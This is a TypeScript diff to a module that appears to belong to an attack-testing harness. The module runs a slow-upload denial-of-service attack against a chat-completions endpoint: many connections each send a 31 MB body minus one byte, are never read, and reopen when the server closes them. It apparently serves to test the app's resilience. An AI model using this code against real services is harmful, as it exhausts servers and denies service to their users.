@@ -6,13 +6,13 @@ import { createTally, type AttackingUser } from './user.ts';
 export const REQUESTS_OF_EACH = 4;
 const BODY = Buffer.from(`{"model":"gpt-4o","messages":[],"user":"${'x'.repeat(31 * 1024 * 1024)}"}`);
 
-export const begin: BeginAttack<{ users: AttackingUser[] }> = ({ users }) => {
+export const begin: BeginAttack<{ users: AttackingUser[] }> = async ({ users }) => {
   const stop = new AbortController();
   const sockets = new Set<Socket>();
   const statuses = createTally();
 
-  /** A client whose upload was ended begins again. */
-  function open({ url, session }: AttackingUser): void {
+  /** A client whose upload was ended begins again. @returns the first connection. */
+  function open({ url, session }: AttackingUser): Socket {
     const sentBytes = BODY.length - 1;
     const path = '/v1/chat/completions';
     const socket = postWithoutReading({ url }, { session, path, body: BODY, sentBytes });
@@ -24,13 +24,22 @@ export const begin: BeginAttack<{ users: AttackingUser[] }> = ({ users }) => {
       sockets.delete(socket);
       if (!stop.signal.aborted) setTimeout(open, 100, { url, session });
     });
+    return socket;
   }
 
-  for (const user of users) for (let n = 0; n < REQUESTS_OF_EACH; n += 1) open(user);
-  return Promise.resolve(() => {
+  const uploads = users.flatMap((user) => Array.from({ length: REQUESTS_OF_EACH }, () => open(user)));
+  await Promise.all(uploads.map(waitUntilSent));
+  return () => {
     stop.abort();
     const open = sockets.size;
     for (const socket of sockets) socket.destroy();
     return Promise.resolve(`${open} open uploads; responses: ${statuses.toString()}`);
-  });
+  };
 };
+
+/** Also resolves when the app has ended the upload. */
+function waitUntilSent(socket: Socket): Promise<unknown> {
+  return new Promise((resolve) => {
+    socket.once('drain', resolve).once('close', resolve);
+  });
+}
